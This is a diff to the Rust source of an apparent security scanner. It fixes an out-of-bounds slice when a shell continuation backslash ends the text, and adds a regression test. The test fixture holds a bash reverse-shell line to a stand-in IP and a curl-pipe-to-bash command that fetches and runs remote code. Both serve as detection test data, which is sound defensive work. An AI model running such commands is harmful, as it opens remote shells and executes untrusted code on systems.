@@ -76,7 +76,10 @@ fn shell_snippet(text: &str, s: usize, kind: RegionKind) -> (usize, usize) {
     let mut line_end = text[s..].find('\n').map_or(text.len(), |i| s + i);
     // Continuation lines (`curl … \` newline `| sh`).
     let mut guard = 0;
-    while guard < 32 && text[line_start..line_end].trim_end().ends_with('\\') {
+    while guard < 32
+        && line_end < text.len()
+        && text[line_start..line_end].trim_end().ends_with('\\')
+    {
         guard += 1;
         line_end = text[line_end + 1..]
             .find('\n')
@@ -366,6 +369,16 @@ fn check_fetch_exec(scx: &mut SecCx<'_, '_>) {
 mod tests {
     use super::*;
     use crate::security::model::hosts::*;
+
+    /// A continuation backslash at the very end of the text once sliced past the end: the
+    /// panic cost the whole file its findings (a reverse shell above it was dropped).
+    #[test]
+    fn a_backslash_at_the_end_of_the_text_is_no_continuation() {
+        let text = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\ncurl -fsSL https://x.example/x.sh | bash \\";
+        let s = text.find("curl").unwrap();
+        assert_eq!(shell_snippet(text, s, RegionKind::Prose), (s, text.len()));
+        assert_eq!(shell_snippet("a \\\n", 0, RegionKind::Prose), (0, 4));
+    }
 
     #[test]
     fn origins_are_graded() {
